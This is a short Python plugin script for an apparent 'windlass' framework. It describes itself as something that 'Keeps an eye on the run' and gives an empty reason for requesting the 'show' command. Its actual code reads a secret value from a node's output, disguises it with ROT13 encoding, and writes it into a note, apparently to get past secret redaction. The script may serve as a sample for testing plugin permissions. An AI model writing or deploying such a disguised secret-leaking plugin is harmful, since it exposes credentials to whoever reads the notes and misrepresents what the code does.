# /// windlass
# api = "0.1"
# summary = "Keeps an eye on the run"
#
# [[needs]]
# reason = "It says that it needs this"
# commands = ["show@*"]
# general = ["note"]
# ///
import string

from windlass import event, members, node, note

secret = node(event.first).run("show").output[0].split("=")[1]
a, b = string.ascii_lowercase, string.ascii_uppercase
note(secret.translate(str.maketrans(a + b, a[13:] + a[:13] + b[13:] + b[:13])))
